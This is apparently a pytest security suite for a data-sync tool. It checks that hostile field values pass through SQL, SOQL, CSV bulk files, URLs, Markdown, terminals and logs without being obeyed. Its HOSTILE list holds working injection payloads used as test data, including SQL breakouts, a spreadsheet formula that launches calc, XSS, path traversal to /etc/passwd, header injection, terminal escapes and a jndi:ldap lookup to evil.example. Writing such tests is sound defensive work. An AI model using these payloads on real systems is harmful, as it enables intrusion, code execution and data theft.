"""Values of rows that mean something elsewhere: in SQL, CSV, addresses, HTML, markdown, logs and terminals."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import structlog
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from destinations.salesforce_parts.collections import Row
from destinations.salesforce_parts.csv_rows import encoded, rows_of
from destinations.salesforce_parts.soql import Identifier, lookups
from destinations.standins.salesforce_parts.soql import parse
from syncer.change import Change
from syncer.logs import configure
from tests.security.fortress import SYNC, UNPRINTABLE, Fortress, a_fortress

HOSTILE = (
    "' OR Name != '",
    "\\' OR Id != null --",
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "`| x | ![](http://evil.example/x.png) [a](javascript:alert(1))",
    "../../../etc/passwd?x=1#y%2e%2e%00",
    "a\r\nX-Forged: 1\r\n\r\nGET / HTTP/1.1",
    "\x1b[2J\x1b]0;owned\x07\x9b31m\u202egnp.exe",
    "{{7*7}}${jndi:ldap://evil.example/a}{% raw %}",
    '","injected,\n"second line',
    "\ufeff\u200b\u2028x",
)
QUICK = settings(max_examples=30, deadline=None, derandomize=True, database=None)
TEXTS = st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(exclude_categories=["Cs"]), max_size=60))


@pytest.fixture(scope="module")
def fortress(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fortress]:
    with a_fortress(tmp_path_factory.mktemp("fortress")) as made:
        assert 0 == made("sync").code
        yield made


@pytest.fixture(scope="module")
def crowd(fortress: Fortress) -> Fortress:
    """As many people as there are hostile texts; each is another's id and note."""
    fortress.sql("DELETE FROM people")
    for number, text in enumerate(HOSTILE):
        quoted = text.replace("'", "''")
        fortress.sql(f"INSERT INTO people VALUES ('{quoted}', 'h{number}@example.com', {number * 7}, '{quoted}')")
    result = fortress("sync", "webhook", "customerio", "--json")
    assert 0 == result.code, result.out
    assert 0 == fortress("sync", "orbit").code
    return fortress


# --- at the services -------------------------------------------------------------------------------------------------


def test_values_arrive_as_they_are(crowd: Fortress) -> None:
    """Whatever a value would mean elsewhere, each service holds exactly it: nothing is quoted twice, cut or obeyed."""
    held = {one.get("user") for one in (dict(each.attributes) for each in crowd.services["customerio"].people.values())}
    notes = {who[0][1]: fields["note"] for who, fields in crowd.services["webhook"].records.items()}
    bios = {one.get("bio") for one in map(vars_of, crowd.services["orbit"].members.values())}

    assert set(HOSTILE) <= held
    assert {text: text for text in HOSTILE} == {who: note for who, note in notes.items() if who in HOSTILE}
    assert set(HOSTILE) <= bios


def vars_of(member: object) -> dict[str, object]:
    return member if isinstance(member, dict) else dict(getattr(member, "attributes", {}))


@QUICK
@given(st.lists(TEXTS.filter(bool), min_size=1, max_size=4, unique=True))
def test_a_value_cannot_leave_its_quotes_in_soql(texts: list[str]) -> None:
    """A service that reads our queries finds the same values in them, one condition, and nothing besides."""
    for lookup in lookups("Contact", Identifier("Email", is_case_sensitive=True), texts):
        query = parse(lookup.soql)

        assert ("Contact", ["Id", "Email"], ["Email"]) == (
            query.object_name,
            query.fields,
            [one.name for one in query.conditions],
        )
        assert list(lookup.texts.values()) == query.conditions[0].values


@QUICK
@given(st.lists(st.fixed_dictionaries({"Key": TEXTS, "A": TEXTS, "B": TEXTS}), min_size=1, max_size=5))
def test_a_value_cannot_leave_its_cell_in_a_bulk_file(rows: list[dict[str, str]]) -> None:
    """A bulk file reads back as the very rows, also where a cell begins like a formula: cells there are not computed,
    and a sign that we put in front would become part of the value."""
    changes = [
        Change(row["Key"], "changed", {}, {name: text for name, text in row.items() if name != "Key"}, {})
        for row in rows
    ]
    content = encoded("Key", [Row(one, "Contact", one.fields, {"Key": one.key}) for one in changes])
    # An empty text is null there.
    sent = [{name: text or "#N/A" for name, text in row.items()} for row in rows]

    assert sent == list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert sent == list(rows_of(io.BytesIO(content), "Key", "A", "B"))


def test_a_value_cannot_leave_its_part_of_an_address(tmp_path: Path) -> None:
    """An object that is asked for by a hostile id is asked for by that id; one of dots, which no address can say,
    is not asked for, and nobody else's record is read in its place."""
    with a_fortress(tmp_path) as fortress:
        fortress.mappings["customerio"] = SYNC.format(
            object="1", match='object_id = "user_id"', fields='score = "score"'
        )
        fortress.settle()
        fortress.sql("DELETE FROM people")
        for number, text in enumerate([*HOSTILE, ".", ".."]):
            quoted = text.replace("'", "''")
            fortress.sql(f"INSERT INTO people VALUES ('{quoted}', 'h{number}@example.com', {number}, '')")
        assert 0 == fortress("sync", "customerio").code
        service = fortress.services["customerio"]
        service.log.clear()
        verified = fortress("verify", "customerio.people")
        asked = [one.request.parts for one in service.log if one.request.method == "GET"]

    assert 2 == verified.code
    assert [["v1", "objects", "1", text, "attributes"] for text in sorted(HOSTILE)] == sorted(asked)


# --- for people ------------------------------------------------------------------------------------------------------


def test_no_value_gives_orders_to_a_terminal(crowd: Fortress) -> None:
    """Plans, lives of records and errors show what is invisible as escapes, for people and as JSON."""
    crowd.sql("UPDATE people SET score = score + 1, text = text || ' '")
    evil = HOSTILE[8]
    told = [
        crowd(*words)
        for words in (
            ("diff", "--limit", "50"),
            ("diff", "--limit", "50", "--json"),
            ("diff", "--format", "markdown"),
            ("explain", "webhook.people", evil),
            ("explain", "webhook.people", evil, "--json"),
            ("explain", "webhook.people", evil + "?"),
            ("rejected", "webhook", "--retry", evil),
            ("forget", "webhook.people", evil + "?"),
            ("approve", "1", "--by", evil),
            ("sync", evil),
            ("diff", "webhook", "--key", evil + "?"),
        )
    ]

    assert [] == [(one.out + one.err)[:300] for one in told if UNPRINTABLE.search(one.out + one.err)]
    assert "\\u001b[2J" in told[0].out


def test_no_value_becomes_html_or_a_link_in_markdown(crowd: Fortress) -> None:
    """The summary for a pull request, rendered with raw HTML allowed, has no element but its own, and whole rows."""
    crowd.sql("UPDATE people SET score = score + 1, text = text || ' '")
    text = crowd("diff", "--format", "markdown").out
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)

    tags = set(re.findall(r"<(\w+)", rendered))
    assert tags <= {"h3", "h4", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "p", "code", "strong", "em"}
    assert "alert(1)" in rendered
    rows = re.findall(r"<tr>(.*?)</tr>", rendered, re.DOTALL)
    assert {9} == {row.count("<td") + row.count("<th") for row in rows}


def test_the_sandbox_page_writes_no_value_as_html() -> None:
    """The page puts text into the document as text; nothing in it turns a string into elements or code."""
    page = (Path(__file__).parents[2] / "syncer" / "sandbox" / "page.html").read_text()

    assert [] == re.findall(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", page)
    assert "textContent" in page


class Terminal(io.StringIO):
    """Standard error of somebody who looks."""

    def isatty(self) -> bool:
        return True


def test_no_value_forges_a_log_line(monkeypatch: pytest.MonkeyPatch) -> None:
    """A name that somebody sends to the daemon, or a service's words, stay on their line and move no cursor."""
    evil = "x\n2026-01-01 [info] run result=done\x1b[2J\x9b31m"
    for stream in (Terminal(), io.StringIO()):
        monkeypatch.setattr("sys.stderr", stream)
        configure(is_service=True)
        structlog.get_logger("test").info("approved", by=evil, error=evil)
        structlog.reset_defaults()
        written = stream.getvalue()

        assert 1 == written.count("\n")
        assert "\x1b[2J" not in written
        assert "\x9b" not in written
